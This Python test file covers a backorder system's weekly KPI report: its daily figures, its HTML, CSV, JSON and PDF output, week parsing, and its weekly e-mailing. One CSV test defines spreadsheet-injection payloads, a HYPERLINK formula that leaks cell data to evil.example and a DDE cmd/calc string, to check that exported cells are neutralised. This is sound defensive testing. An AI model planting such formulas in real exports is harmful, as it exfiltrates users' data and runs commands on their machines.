"""The weekly report on the hand-checked January story of the KPI tests (SQLite and
PostgreSQL): its figures, each format, and the worker publishing it once a week and e-mailing
it (over a real SMTP server on loopback) with its charts inline and the PDF attached."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from pypdf import PdfReader

from backorder.config import Settings
from backorder.domain.errors import InvalidRequest
from backorder.report.render import render
from backorder.services.context import Backorder
from backorder.services.intake import place_order
from backorder.services.notifications import failed
from backorder.services.orders import cancel_order
from backorder.services.planning import plan
from backorder.services.products import add_product
from backorder.services.report import parse_week, report_due, run_weekly, weekly_report
from backorder.services.review import run_review
from backorder.services.sending import send_due
from tests.conftest import Clock
from tests.factories import order, product
from tests.integration.test_kpis import make_january
from tests.mail import Inbox

PNG = b"\x89PNG\r\n\x1a\n"


@pytest.fixture
def settings(inbox: tuple[Inbox, int], tmp_path: Path) -> Settings:
    return Settings(
        database_url="sqlite:///unused.db",
        smtp_url=f"smtp://127.0.0.1:{inbox[1]}",
        mail_from="Backorder <ops@shop.example>",
        report_email=["ceo@shop.example", "buyer@shop.example"],
        notify_fold_seconds=0,
    )


@pytest.fixture
def january(app: Backorder, clock: Clock) -> Backorder:
    return make_january(app, clock)


def test_the_week_of_the_story_day_by_day(january: Backorder) -> None:
    report = weekly_report(january, "2026-W03")  # Monday 12 to Sunday 18 January
    assert (report["from"], report["to"]) == ("2026-01-12", "2026-01-18")
    days = {d["day"]: d for d in report["days"]}
    assert len(days) == 7
    assert days["2026-01-12"]["filled_lines"] == 2  # W1's and M1's A
    assert days["2026-01-13"]["cancelled_lines"] == 1  # W6
    assert days["2026-01-14"]["cancelled_units"] == 1  # one of W2's B
    assert sum(d["new_lines"] for d in report["days"]) == 0
    assert report["kpis"]["conversion_rate"]["converted_units"] == 2
    assert report["kpis"]["average_backorder_duration"]["value"] == 2.0
    earlier = weekly_report(january, "2026-W02")
    assert {d["day"]: d["new_lines"] for d in earlier["days"]}["2026-01-10"] == 5


def test_the_default_week_is_the_last_complete_one(january: Backorder) -> None:
    assert weekly_report(january)["week"] == "2026-W03"  # today is Sunday 25 January


def test_top_skus_and_suppliers_are_by_money_waiting_now(january: Backorder) -> None:
    report = weekly_report(january, "2026-W03")
    (b,) = report["top_skus"]  # only B waits: M3's 1 unit (overdue) and W4's 3
    assert (b["sku"], b["lines"], b["units"], b["value"], b["overdue_lines"]) == (
        "B",
        2,
        4,
        "80.00",
        1,
    )
    assert report["top_suppliers"][0] | {"name": None} == {
        "supplier": None,
        "name": None,
        "currency": "USD",
        "skus": 1,
        "lines": 2,
        "units": 4,
        "value": "80.00",
    }


def test_the_daily_review_feeds_the_overdue_figures(january: Backorder, clock: Clock) -> None:
    clock.current = datetime(2026, 1, 26, 6, tzinfo=UTC)
    run_review(january)  # M3's B, promised 20 January, still waits
    clock.current = datetime(2026, 2, 2, 9, tzinfo=UTC)
    days = {d["day"]: d for d in weekly_report(january, "2026-W05")["days"]}
    assert days["2026-01-26"]["overdue_lines"] == 1
    assert days["2026-01-26"]["value_at_risk"] == "20.00"
    assert days["2026-01-27"]["overdue_lines"] is None  # no review that day


def test_every_format(january: Backorder) -> None:
    report = weekly_report(january, "2026-W03")
    page = render(report, "html").decode()
    assert "<h1>Backorders, week 2026-W03</h1>" in page
    images = re.findall(r'src="data:image/png;base64,([^"]+)"', page)
    assert len(images) == 2  # trend and aging; no review ran that week
    assert "http://" not in page and "https://" not in page  # nothing from the internet
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode())))
    assert rows[0] == ["section", "item", "field", "value"]
    assert ["day", "2026-01-12", "filled_lines", "2"] in rows
    assert ["kpi", "conversion_rate", "converted_units", "2"] in rows
    assert ["top_sku", "B:USD", "value", "80.00"] in rows
    assert json.loads(render(report, "json")) == json.loads(json.dumps(report))
    document = render(report, "pdf")
    assert document.startswith(b"%PDF-") and document.rstrip().endswith(b"%%EOF")
    assert len(re.findall(rb"/Type /Page\b", document)) >= 2
    assert render(report, "pdf") == document  # the same report, the same bytes


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_csv_never_hands_a_spreadsheet_a_formula(january: Backorder, clock: Clock) -> None:
    """Cells beginning with =, +, -, @, a tab or a carriage return are quoted the OWASP way
    (a leading '), whatever they came from (here a SKU, and a task's fields); numbers, a
    negative one too, stay numbers."""
    add_product(january, product(FORMULA, unit_price=Decimal(5)))
    place_order(january, order("CSV1", (FORMULA, 2), placed_at=clock.current))
    place_order(january, order("CSV2", ("B", 1), placed_at=clock.current))
    cancel_order(january, "web:CSV2", reason=REASON)
    clock.advance(days=7)
    report = weekly_report(january, "2026-W04")
    report["tasks"].append(
        {"id": 99, "role": "-2+3", "sku": "\tx", "due_on": "+1+1", "title": "\r=1+1\n=2"}
    )
    report["days"][0]["new_lines"] = -3  # a number: data, even below zero
    report["days"][0]["value_at_risk"] = "-12.50"  # a number written as text: data too
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode())))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}:USD" in cells  # the SKU, in the top SKUs
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert {"'-2+3", "'+1+1", "'\tx", "'\r=1+1\n=2"} <= set(cells)  # one cell, not two rows
    assert f"reasons_{REASON}" in cells  # the cancel reason follows its field's name
    assert ["day", report["days"][0]["day"], "new_lines", "-3"] in rows
    assert ["day", report["days"][0]["day"], "value_at_risk", "-12.50"] in rows


@pytest.mark.parametrize("week", ["2026-47", "2026-W54", "W03"])
def test_a_week_that_is_not_one_is_refused(january: Backorder, week: str) -> None:
    with pytest.raises(InvalidRequest):
        weekly_report(january, week)
    assert parse_week("2026-W53").isoformat() == "2026-12-28"  # 2026 has 53 weeks


def test_the_worker_publishes_the_report_once_and_mails_it(
    january: Backorder, clock: Clock, inbox: tuple[Inbox, int]
) -> None:
    box, _ = inbox
    plan(january)
    send_due(january)  # the story's customer e-mail
    box.messages.clear()
    clock.current = datetime(2026, 1, 26, 6, 59, tzinfo=UTC)  # Monday, before 07:00
    assert report_due(january, clock.current) is None and not run_weekly(january)
    clock.current = datetime(2026, 1, 26, 7, 0, tzinfo=UTC)
    assert run_weekly(january)
    assert not run_weekly(january)  # once a week
    clock.current = datetime(2026, 1, 30, 7, 0, tzinfo=UTC)
    assert not run_weekly(january)
    plan(january)
    send_due(january)  # the report, and a status update the story's customers are due
    assert failed(january) == []
    reports = [m for m in box.messages if m["Subject"].startswith("Backorders, week")]
    assert sorted(m["To"] for m in reports) == ["buyer@shop.example", "ceo@shop.example"]
    message = reports[0]
    assert message["Subject"] == "Backorders, week 2026-W04"
    kinds = [part.get_content_type() for part in message.walk()]
    assert kinds.count("image/png") == 2 and "application/pdf" in kinds and "text/plain" in kinds
    html = next(p for p in message.walk() if p.get_content_type() == "text/html")
    body = html.get_content()
    assert 'src="cid:trend"' in body and 'src="cid:aging"' in body
    cids = {p["Content-ID"] for p in message.walk() if p.get_content_type() == "image/png"}
    assert cids == {"<trend>", "<aging>"}
    png = next(p for p in message.walk() if p.get_content_type() == "image/png")
    assert png.get_content().startswith(PNG)
    pdf = next(p for p in message.walk() if p.get_content_type() == "application/pdf")
    assert pdf.get_filename() == "backorders-2026-W04.pdf"
    assert pdf.get_content().startswith(b"%PDF-")
    plan(january)
    assert send_due(january) == {}  # nothing twice


def pdf_text(document: bytes) -> str:
    """The PDF's text as a reader would copy it (pypdf's layout mode: a table row on one
    line)."""
    pages = PdfReader(io.BytesIO(document)).pages
    text = "\n".join(page.extract_text(extraction_mode="layout") for page in pages)
    return " ".join(text.split(" "))


def test_the_pdf_holds_what_the_html_holds(january: Backorder) -> None:
    report = weekly_report(january, "2026-W03")
    page = render(report, "html").decode()
    text = pdf_text(render(report, "pdf"))
    flat = re.sub(r"\s+", " ", text)
    sections = re.findall(r"<h2>([^<]+)</h2>", page)
    headers = set(re.findall(r"<th[^>]*>([^<]+)</th>", page))
    assert len(sections) == 7 and len(headers) > 15
    for words in [*sections, *headers]:
        assert words in flat, words
    for day in report["days"]:  # the per-day table, row by row
        row = f"{day['day']} {day['new_lines']} {day['filled_lines']} {day['cancelled_lines']}"
        assert row in flat, row
    assert "Money on backorder: $80.00" in flat and "Revenue at risk (overdue): $20.00" in flat
    # B's row: its money with the symbol, waiting since, next date
    assert any("$80.00" in line and "2026-01-10" in line for line in text.splitlines())
    assert "customer request" in flat and "customer_request" not in flat
    assert "meets" in flat and "misses" in flat
    assert "USD" not in flat  # money has one form: its symbol
